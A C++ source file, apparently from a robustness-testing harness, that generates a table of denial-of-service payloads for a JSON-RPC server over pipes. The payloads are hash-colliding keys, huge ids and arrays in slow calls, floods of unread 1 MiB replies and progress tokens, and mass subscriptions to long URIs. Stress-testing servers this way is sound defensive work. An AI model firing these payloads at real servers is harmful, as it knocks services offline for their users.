#include "attack/pipes.hpp"

#include "attack/colliding_keys.hpp"
#include "attack/messages.hpp"

namespace attack {
namespace {

std::string colliding_lines() {
    std::string out;
    for (const std::size_t pages : {13U, 26U, 52U})
        out += call_message("echo", "{\"message\":\"x\"," + colliding_members(pages * 4096 - 1) + "}") + "\n";
    return out;
}

std::string slow_calls_with(const std::string& more_params, int times) {
    std::string out;
    for (int i = 0; i < times; ++i)
        out += call_message("sleep", R"({"ms":60000})", more_params, std::to_string(100 + i)) + "\n";
    return out;
}

std::string number_lines() { return slow_calls_with(",\"_meta\":{\"x\":[" + list_of("0", 7'500'000) + "]}", 8); }

std::string long_id_lines() {
    std::string out;
    for (int i = 0; i < 40; ++i)
        out +=
            call_message("sleep", R"({"ms":60000})", "", "\"" + std::to_string(i) + std::string(15 << 20, 'i') + "\"") +
            "\n";
    return out;
}

std::string unread_lines() {
    std::string out;
    const std::string text(1 << 20, 'e');
    for (int i = 0; i < 500; ++i)
        out += call_message("echo", "{\"message\":\"" + text + "\"}", "", std::to_string(i)) + "\n";
    return out;
}

std::string token_lines() {
    const std::string token(1 << 20, 't');
    return call_message("flood", R"({"times":1000})", ",\"_meta\":{\"progressToken\":\"" + token + "\"}") + "\n";
}

std::string subscription_lines() {
    std::string out;
    const std::string tail(64'000, 'u');
    for (int i = 0; i < 10'000 && out.size() < (std::size_t{400} << 20); ++i)
        out += message("resources/subscribe", "\"uri\":\"note://" + std::to_string(i) + "/" + tail + "\"") + "\n";
    return out;
}

constexpr PipeAttack table[] = {
    {"colliding-keys", "three objects whose keys collide", colliding_lines},
    {"number-arrays-meta", "8 slow calls with 15 MB of [0,0,...]", number_lines},
    {"long-ids", "40 slow calls with ids of 15 MiB", long_id_lines},
    {"unread-answers", "500 echoes of 1 MiB, unread", unread_lines, false},
    {"long-progress-tokens", "1000 reports with a token of 1 MiB, unread", token_lines, false},
    {"long-subscriptions", "6,000 subscriptions to URIs of 64 KiB", subscription_lines},
};

}  // namespace

std::span<const PipeAttack> pipe_attacks() { return table; }

}  // namespace attack
